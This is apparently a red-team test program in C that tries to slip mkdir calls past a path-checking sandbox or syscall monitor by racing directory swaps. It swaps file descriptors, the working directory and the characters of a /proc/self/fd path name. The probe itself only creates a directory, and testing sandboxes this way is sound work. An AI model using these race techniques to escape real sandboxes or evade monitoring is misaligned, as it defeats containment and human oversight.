/* Red-team probe: a change whose directory another thread swaps during the call.
 *
 *   swap_race MODE OUTSIDE INSIDE SECONDS
 *
 * fd RL (40) is OUTSIDE's directory, fd SB (41) INSIDE's. INSIDE/pwn exists beforehand, so a
 * call that lands there fails (EEXIST) and writes nothing; only a call that lands in OUTSIDE
 * succeeds. A second thread keeps the directory at the inside one and swaps in the outside
 * one for a moment every 300 us; the call is padded with "./" parts so that its path walk
 * (after the directory was taken) outlasts that moment, and the witness's look at return sees
 * the inside one again. MODE:
 *   magic  mkdir("/proc/self/fd/42/././.../pwn"), fd 42 swapped by dup2(RL|SB, 42)
 *   dirfd  mkdirat(42, "././.../pwn"), fd 42 swapped likewise
 *   cwd    mkdir("././.../pwn"), the (shared) cwd swapped by fchdir(RL|SB)
 *   name   mkdir(buf), buf "/proc/self/fd/4X/././.../pwn" whose digit X the thread flips
 *          between 1 (SB) and 0 (RL): the name the witness reads at return is not the one
 *          the kernel copied at entry
 * Exit 0 once OUTSIDE/pwn exists (a call landed outside), 3 when SECONDS pass without. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define RL 40
#define SB 41
#define SW 42
#define PAD 2000

static volatile int done;
static const char *mode;
static char name[4096];

static void pause_us(long us)
{
    struct timespec ts = { 0, us * 1000 };
    nanosleep(&ts, NULL);
}

static void *swapper(void *arg)
{
    (void)arg;
    char *digit = name + strlen("/proc/self/fd/4");
    while (!done) {
        if (!strcmp(mode, "cwd")) {
            fchdir(RL);
            fchdir(SB);
        } else if (!strcmp(mode, "name")) {
            __atomic_store_n(digit, '0', __ATOMIC_SEQ_CST);
            for (volatile int i = 0; i < 2000; i++)  /* held a few microseconds */
                ;
            __atomic_store_n(digit, '1', __ATOMIC_SEQ_CST);
        } else {
            dup2(RL, SW);
            dup2(SB, SW);
        }
        pause_us(300);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc != 5)
        return 2;
    mode = argv[1];
    int rl = open(argv[2], O_PATH | O_DIRECTORY), sb = open(argv[3], O_PATH | O_DIRECTORY);
    if (rl < 0 || sb < 0 || dup2(rl, RL) < 0 || dup2(sb, SB) < 0 || dup2(sb, SW) < 0 || fchdir(SB) < 0)
        return 2;
    char pad[2 * PAD + 1];
    for (int i = 0; i < PAD; i++)
        memcpy(pad + 2 * i, "./", 2);
    pad[2 * PAD] = 0;
    const char *call_name = name;
    if (!strcmp(mode, "magic"))
        snprintf(name, sizeof(name), "/proc/self/fd/%d/%spwn", SW, pad);
    else if (!strcmp(mode, "name"))
        snprintf(name, sizeof(name), "/proc/self/fd/%d/%spwn", SB, pad);
    else
        snprintf(name, sizeof(name), "%spwn", pad);
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    time_t end = time(NULL) + atoi(argv[4]);
    struct stat st;
    int rc = 3;
    long tries = 0;
    while (time(NULL) < end) {
        tries++;
        if (!strcmp(mode, "dirfd"))
            mkdirat(SW, call_name, 0755);
        else
            mkdir(call_name, 0755);
        if (fstatat(RL, "pwn", &st, 0) == 0) {
            rc = 0;
            break;
        }
        pause_us(50);
    }
    done = 1;
    pthread_join(t, NULL);
    fprintf(stderr, "swap_race %s: %s after %ld tries\n", mode, rc ? "missed" : "landed outside", tries);
    return rc;
}
